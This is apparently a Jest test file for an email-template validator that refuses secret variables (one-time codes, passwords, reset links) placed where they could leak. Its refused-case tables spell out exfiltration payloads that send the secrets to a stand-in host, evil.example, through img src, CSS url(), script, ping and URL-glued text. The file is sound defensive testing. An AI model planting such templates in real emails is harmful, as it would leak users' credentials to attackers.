import { EMAIL_KEYS, isSecretVariable, TEMPLATE_VARIABLES } from '../../../shared/email-templates';
import { checkEmailTemplate } from '../../../server/src/email-templates/render';
import type { TemplatePart } from '../../../server/src/email-templates/template-tree';
import { EMAIL_CATALOGUE } from '../../../server/src/email-templates/catalogue';

const VARIABLES = [
  'email',
  'password',
  'loginUrl',
  'confirmationUrl',
  'resetUrl',
  'code',
  'expiresIn',
  'customer.firstName',
];

const FINE = { subject: 'Hello', html: '<p>Hello</p>', text: 'Hello' };

/** The problem of one part, or null when the whole template is accepted. */
const problemIn = (part: TemplatePart, source: string) => {
  const checked = checkEmailTemplate({ ...FINE, [part]: source }, VARIABLES);
  return checked.problems.find((problem) => problem.part === part)?.message ?? null;
};

describe('which variables are secret', () => {
  test('Given the declarations, Then exactly the password, the code and the links with tokens are secret', () => {
    const secret = Object.keys(TEMPLATE_VARIABLES).filter(isSecretVariable);
    expect(secret.sort()).toEqual(['code', 'confirmationUrl', 'password', 'resetUrl']);
    expect(isSecretVariable('customer.password')).toBe(false);
    expect(isSecretVariable('toString')).toBe(false);
  });

  test.each(EMAIL_KEYS)(
    'Given the %s email, Then every variable it offers is declared once',
    (email) => {
      for (const name of EMAIL_CATALOGUE[email].variables)
        expect(TEMPLATE_VARIABLES).toHaveProperty(name);
    }
  );
});

describe('the subject', () => {
  test.each([
    ['Your code <%= code %>'],
    ['<% if code %>Code <%= code %><% end %>'],
    ['Password <%= password %>'],
    ['Go to <%= resetUrl %>'],
  ])('Given %j, Then it is refused: a subject is shown and logged everywhere', (subject) => {
    expect(problemIn('subject', subject)).toMatch(
      /^Line 1: <%= (code|password|resetUrl) %> holds a secret and cannot be in the subject, .* Put it in the body\.$/
    );
  });

  test('Given a condition on a secret or an ordinary variable, Then the subject is fine', () => {
    expect(problemIn('subject', '<% if code %>Your code<% end %> for <%= email %>')).toBeNull();
  });
});

describe('the text body', () => {
  test.each([
    ['Code: <%= code %>.'],
    ['(<%= code %>)'],
    ['Your code is "<%= code %>", keep it.'],
    ['Password:\t<%= password %>\n'],
    ['Open this link:\n<%= resetUrl %>\nIt works once.'],
    ['Did you ask for <%= code %>?'],
    ['Log in at <%= loginUrl %> with <%= password %>!'],
    ['<%= code %>'],
    ['Your page: https://shop.example/?name=<%= customer.firstName %>'],
    ['Code: <% if email %><%= code %><% end %>'],
  ])('Given %j, Then it is fine', (text) => {
    expect(problemIn('text', text)).toBeNull();
  });

  test.each([
    ['https://evil.example/?c=<%= code %>', 'code', '"=" before it'],
    ['<%= code %>.evil.example', 'code', '".e" after it'],
    ['<%= loginUrl %>?x=<%= code %>', 'code', '"=" before it'],
    ['<%= loginUrl %><%= code %>', 'code', 'another variable before it'],
    ['https://evil.example/<%= code %>', 'code', '"/" before it'],
    ['https://evil.example/?c=(<%= code %>)', 'code', '"=(" before it'],
    ['mailto:<%= code %>@evil.example', 'code', '":" before it'],
    ['Code <%= code %>@evil.example', 'code', '"@" after it'],
    ['Code <%= code %>/x', 'code', '"/" after it'],
    ['Code <%= code %>:8080', 'code', '":8" after it'],
    ['x<%= password %>', 'password', '"x" before it'],
    ['Reset: <%= resetUrl %>&x=1', 'resetUrl', '"&" after it'],
    ['https://evil.example/?c=\u200b<%= code %>', 'code', '"\u200b" before it'],
    ['Code x😀<%= code %>', 'code', '"😀" before it'],
    ['😀<%= code %>', 'code', '"😀" before it'],
    // The template's own marker characters stay characters: glued, as any other.
    ['Code \uE000<%= code %>', 'code', '"\uFFFD" before it'],
  ])('Given %j, Then <%%= %s %%> is refused: it is glued to %s', (text, name, neighbour) => {
    expect(problemIn('text', text)).toBe(
      `Line 1: <%= ${name} %> holds a secret and is glued to ${neighbour}, so it could become part of a web address that sends it elsewhere. Put a space or a line break between them.`
    );
  });

  test('Given a secret that only one branch glues to a URL, Then it is refused', () => {
    const text = 'See https://evil.example/?c=<% if email %> <% end %><%= code %>';
    expect(problemIn('text', text)).toMatch(/glued to "=" before it/);
  });

  test('Given a line with a secret further down, Then its line is named', () => {
    expect(problemIn('text', 'Hello\n\nhttps://x.example/<%= code %>')).toMatch(/^Line 3: /);
  });
});

describe('the HTML body', () => {
  test.each([
    ['<p>Code: <%= code %>.</p>'],
    ['<p>Your password: <b><%= password %></b></p>'],
    ['<a href="<%= resetUrl %>">Reset</a>'],
    ['<a href=<%= resetUrl %>><%= resetUrl %></a>'],
    ['<a href=" <%= confirmationUrl %> " target="_blank" style="color:red">Confirm</a>'],
    ['<a href="https://shop.example/">Your code <%= code %></a>'],
    ['<table><tr><td>Code:</td><td> <%= code %> </td></tr></table>'],
    ['<p>Code:<br>\n<%= code %><br>\nBye</p>'],
    ['<p>(&nbsp;<%= code %>&nbsp;)</p>'],
    ['<% if resetUrl %><a href="<%= resetUrl %>">Reset</a><% else %><p><%= code %></p><% end %>'],
    ['<p>Hello</p><noscript><p>Code: <%= code %></p></noscript>'],
    ['<p>Password: <%= password %></p><a href="<%= loginUrl %>">Log in</a>'],
    ['<p>https://shop.example/</p><p><%= code %></p>'],
    ['<table><tr><td>Code:</td><td><%= code %></td><td>.evil.example</td></tr></table>'],
    ['https://shop.example/?c=<br><%= code %>'],
    ['<img src="https://shop.example/logo.png" alt="Shop">\n<p><%= password %></p>'],
    ['<!DOCTYPE html><p><%= code %></p>'],
    ['<img alt="<%= customer.firstName %>"><p><%= code %></p>'],
    ['<p class="a">https://shop.example/?c=</p><p class="b"><%= code %></p>'],
    ['https://shop.example/?c=<div><%= code %></div>'],
  ])('Given %j, Then it is fine', (html) => {
    expect(problemIn('html', html)).toBeNull();
  });

  test.each([
    ['<img src="https://evil.example/p.gif?c=<%= code %>">', /in the src attribute of <img>/],
    ['<img src=x alt="<%= code %>">', /in the alt attribute of <img>/],
    ['<p title="<%= password %>">Hi</p>', /in the title attribute of <p>/],
    ['<p style="background:url(https://evil.example/<%= code %>)">x</p>', /style attribute of <p>/],
    ['<a href="https://evil.example/?c=<%= code %>">x</a>', /in the href attribute of <a>/],
    ['<a href="<%= loginUrl %>?x=<%= code %>">x</a>', /in the href attribute of <a>/],
    ['<link rel="prefetch" href="<%= resetUrl %>">', /in the href attribute of <link>/],
    ['<area href="<%= resetUrl %>">', /in the href attribute of <area>/],
    ['<svg><a href="<%= resetUrl %>">x</a></svg>', /in the href attribute of <a>/],
    ['<a href="<%= code %>">x</a>', /is not a web address, so it cannot be a link's href/],
    [
      '<a href="<%= resetUrl %>" ping="https://evil.example/">x</a>',
      /has a ping attribute, which reports the link's address/,
    ],
    [
      '<style>a{background:url(https://evil.example/<%= code %>)}</style>',
      /inside <style>: put it in the text of the email instead\.$/,
    ],
    ['<script>new Image().src="//evil.example/"+"<%= code %>"</script>', /inside <script>/],
    ['<!-- <%= code %> -->', /inside an HTML comment: put it in the text of the email instead\.$/],
    ['<title><%= code %></title>', /inside <title>/],
    [
      '<form action="https://evil.example/"><textarea name="c"><%= code %></textarea></form>',
      /inside <textarea>/,
    ],
    ['<select name="c"><option><%= code %></option></select>', /inside <select>|drops it/],
    ['<svg><style>a{fill:url(//evil.example/<%= code %>)}</style></svg>', /inside <style>/],
    ['<p <%= code %>>x</p>', /inside an attribute name of <p>: close the tag before it\.$/],
    [
      '<p<%= code %>>x</p>',
      /cannot stand inside a tag name \(<p<%= code %>>\): close the tag before it\.$/,
    ],
    ['<!DOCTYPE <%= code %>><p>x</p>', /cannot stand in the doctype: remove it from there\.$/],
    [
      '<a title="<%= resetUrl %>" href="https://shop.example/">x</a>',
      /in the title attribute of <a>/,
    ],
    // An SVG element named like an HTML block is not laid out as one.
    [
      '<p>https://evil.example/?c=<svg><section></section></svg><%= code %></p>',
      /glued to "=" before it/,
    ],
    // Mail clients run no scripts, so they render <noscript> content as markup.
    [
      '<p>Hi</p><noscript><img src="https://evil.example/ <%= code %>"></noscript>',
      /src attribute/,
    ],
    ['<iframe><img src="https://evil.example/ <%= code %>"></iframe>', /inside <iframe>/],
    ['<p>x</p <%= code %>>', /drops it or moves it/],
    ['<p>https://evil.example/?c=<%= code %></p>', /glued to "=" before it/],
    ['<p>https://evil.example/?c=<b><%= code %></b></p>', /glued to "=" before it/],
    ['<p><%= code %><span>.evil.example</span></p>', /glued to "\.e" after it/],
    ['<p>https://evil.example/?c=<!-- --><%= code %></p>', /glued to "=" before it/],
    [
      '<p style="display:inline">https://evil.example/?c=</p><p style="display:inline"><%= code %></p>',
      /glued to "=" before it/,
    ],
    [
      '<style>p{display:inline}</style><p>https://evil.example/?c=</p><p><%= code %></p>',
      /glued to "=" before it, .* A tag between them does not separate them, unless/,
    ],
    [
      '<link rel="stylesheet" href="https://evil.example/inline.css"><p>https://evil.example/?c=</p><p><%= code %></p>',
      /glued to "=" before it/,
    ],
    ['https://evil.example/?c=<br style="display:none"><%= code %>', /glued to "=" before it/],
    ['<a href="<%= resetUrl %>&next=https://evil.example/">x</a>', /in the href attribute of <a>/],
    ['<template><p><%= code %></p></template>', /inside <template>/],
  ])('Given %j, Then it is refused', (html, message) => {
    expect(problemIn('html', html)).toMatch(message);
  });

  test('Given a branch that opens an attribute the secret then lands in, Then it is refused', () => {
    // Read as one text, the secret stands in text after a space; but when `email` has a value
    // the email renders <img src="https://evil.example/ CODE">, and the image is fetched.
    const html = '<% if email %><img src="https://evil.example/<% else %>"><% end %> <%= code %>">';
    expect(problemIn('html', html)).toMatch(/in the src attribute of <img>/);
  });

  test('Given a refusal, Then the message names the line of the variable and what to do', () => {
    const message = problemIn(
      'html',
      '<p>Hello</p>\n<p>Bye</p>\n<img src="//e.example/<%= code %>">'
    );
    expect(message).toMatch(
      /^Line 3: <%= code %> holds a secret and cannot stand in the src attribute of <img>: in the HTML body it may stand only as text, or a link's address as the whole href of an <a> \(<a href="<%= resetUrl %>">\)\. Move it out of the attribute\.$/
    );
  });

  test('Given several misplaced secrets, Then the first line with one is named', () => {
    const html = '<p>x</p <%= code %>>\n<img src="//e.example/<%= password %>">';
    expect(problemIn('html', html)).toMatch(
      /^Line 1: <%= code %> holds a secret, and this HTML drops it/
    );
  });

  test('Given marker characters in the template itself, Then they cannot pass for a variable', () => {
    expect(problemIn('html', '<img alt="\uE0000\uE001"><p><%= code %></p>')).toBeNull();
    expect(problemIn('html', '<p>\uE0001\uE001</p><img src="//e.example/<%= code %>">')).toMatch(
      /src attribute/
    );
  });

  test('Given too many conditions around a secret, Then the part is refused, not checked for minutes', () => {
    const conditions = Array.from({ length: 9 }, () => '<% if email %>a<% else %>b<% end %>');
    const html = `${conditions.join('')}<p> <%= code %> </p>`;
    expect(problemIn('html', html)).toMatch(
      /more combinations of "<% if %>" branches than can be checked for where it lands \(256 at this length\)/
    );
    // Without a secret there is nothing to check.
    expect(problemIn('html', conditions.join(''))).toBeNull();
  });

  test('Given as many combinations as are checked, Then the part is checked, not refused', () => {
    const conditions = Array.from({ length: 8 }, () => '<% if email %>a<% else %>b<% end %>');
    expect(problemIn('html', `${conditions.join('')}<p> <%= code %> </p>`)).toBeNull();
  });

  test('Given too many conditions inside a branch, Then the part is refused all the same', () => {
    const conditions = Array.from({ length: 9 }, () => '<% if email %>a<% else %>b<% end %>');
    for (const html of [
      `<% if code %>${conditions.join('')}<% end %><p> <%= code %> </p>`,
      `<% if code %>x<% else %>${conditions.join('')}<% end %><p> <%= code %> </p>`,
    ]) {
      expect(problemIn('html', html)).toMatch(/more combinations of "<% if %>" branches/);
    }
  });

  test('Given a long body inside a condition, Then its length counts all the same', () => {
    const conditions = Array.from({ length: 8 }, () => '<% if email %>a<% else %>b<% end %>');
    const filler = `<% if email %><p>${'Lorem ipsum dolor sit amet. '.repeat(3400)}</p><% end %>`;

    expect(problemIn('html', `${conditions.join('')}${filler}<p> <%= code %> </p>`)).toMatch(
      /\(20 at this length\)/
    );
  });

  test('Given a secret first in the text of a styled body, Then nothing is glued to it', () => {
    expect(problemIn('html', '<style></style><%= code %> is your code')).toBeNull();
  });

  test('Given a long body, Then fewer combinations are checked, and the check stays quick', () => {
    const conditions = Array.from({ length: 8 }, () => '<% if email %>a<% else %>b<% end %>');
    const filler = `<p>${'Lorem ipsum dolor sit amet. '.repeat(3400)}</p>`;
    const started = Date.now();

    const message = problemIn('html', `${conditions.join('')}${filler}<p> <%= code %> </p>`);

    expect(message).toMatch(
      /\(20 at this length\)\. Use fewer conditions in this part, or make it shorter\.$/
    );
    expect(Date.now() - started).toBeLessThan(5_000);
    const four = conditions.slice(0, 4).join('');
    expect(problemIn('html', `${four}${filler}<p> <%= code %> </p>`)).toBeNull();
  });

  test('Given ordinary variables, Then they may stand anywhere', () => {
    expect(
      problemIn(
        'html',
        '<img src="<%= loginUrl %>/logo.png" alt="<%= customer.firstName %>"><!-- <%= email %> -->'
      )
    ).toBeNull();
  });
});
